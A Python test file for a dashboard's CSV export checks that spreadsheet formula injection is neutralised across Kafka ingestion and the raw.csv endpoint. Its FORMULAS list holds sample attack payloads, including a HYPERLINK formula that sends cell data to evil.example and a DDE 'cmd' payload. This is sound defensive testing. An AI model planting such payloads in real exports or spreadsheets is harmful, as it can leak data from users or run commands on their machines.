"""CSV exports are spreadsheet-safe (OWASP CSV injection): text that a
spreadsheet would evaluate, sent through the real broker and stored by the
consumer, comes out of the dashboard's ``raw.csv`` as quoted text with a
leading single quote; numbers stay unquoted numbers."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone
from decimal import Decimal

from dashboard import create_app
from salespulse.csv_safe import csv_line
from tests.support.consumer import BASE_TS, ecommerce_event, end_offsets, produce_events, produce_orders
from tests.support.consumer import restaurant_order
from tests.test_consumer_origin import consume_all
from tests.test_dashboard_api import make_settings

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_text_cells_are_neutralised_numbers_stay_numbers():
    line = csv_line(["=1+2", "-5", "plain", 'say "hi"', Decimal("-12.50"), -3, 7, None,
                     datetime(2026, 1, 1, 12, 0, tzinfo=timezone.utc), date(2026, 1, 2)])
    assert line == ('"\'=1+2","\'-5","plain","say ""hi""",-12.50,-3,7,"",'
                    '"2026-01-01T12:00:00+00:00","2026-01-02"\r\n')
    for formula in FORMULAS:
        [[cell]] = read_csv(csv_line([formula]))
        assert cell == "'" + formula
    # a cell holding a separator and a quote cannot break out of its cell
    [[a, b]] = read_csv(csv_line(['x","=1+1', "=2"]))
    assert (a, b) == ('x","=1+1', "'=2")


def test_formulas_sent_through_kafka_come_out_of_raw_csv_neutralised(settings, database_url, broker):
    ts = BASE_TS.replace(hour=15)  # a minute of its own
    events = [ecommerce_event(i, event_type="purchase", run="csv", timestamp=ts.replace(second=i).isoformat(),
                              user_id=f, session_id=f)
              for i, f in enumerate(FORMULAS)]
    for e, f in zip(events, FORMULAS):
        e["product"] = {**e["product"], "id": f, "category": f}
    orders = [restaurant_order(i, timestamp=ts.replace(second=i).isoformat(), restaurant_id=f, payment_method=f)
              for i, f in enumerate(FORMULAS)]
    start = end_offsets(broker.bootstrap)
    produce_events(broker.bootstrap, events)
    produce_orders(broker.bootstrap, orders)
    consume_all(settings, start)

    app = create_app(make_settings(database_url))
    try:
        client, bodies = app.test_client(), {}
        for domain in ("ecommerce", "restaurant"):
            resp = client.get("/api/drilldown/raw.csv", query_string={
                "domain": domain, "report": "overview", "window_start": ts.strftime("%Y-%m-%dT%H:%M:%SZ")})
            assert resp.status_code == 200
            bodies[domain] = resp.get_data(as_text=True)  # read the stream before the next request
    finally:
        app.extensions["salespulse"]["db"].close()

    rows = list(csv.DictReader(io.StringIO(bodies["ecommerce"])))
    assert len(rows) == len(FORMULAS)
    by_id = {r["event_id"]: r for r in rows}
    for e, f in zip(events, FORMULAS):
        row = by_id[e["event_id"]]
        assert [row[c] for c in ("user_id", "session_id", "product_id", "category")] == ["'" + f] * 4
        assert Decimal(row["total_amount"]) == Decimal(str(e["total_amount"]))  # a number, untouched
    rows = list(csv.DictReader(io.StringIO(bodies["restaurant"])))
    assert {r["order_id"]: (r["restaurant_id"], r["payment_method"]) for r in rows} == {
        o["order_id"]: ("'" + f, "'" + f) for o, f in zip(orders, FORMULAS)}
    # and no cell of either file begins with a character a spreadsheet evaluates
    for text in bodies.values():
        cells = [c for line in read_csv(text) for c in line]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        # a leading minus only on a number (none here: amounts, quantities and offsets are not negative)
        assert not [c for c in cells if c.startswith("-")]
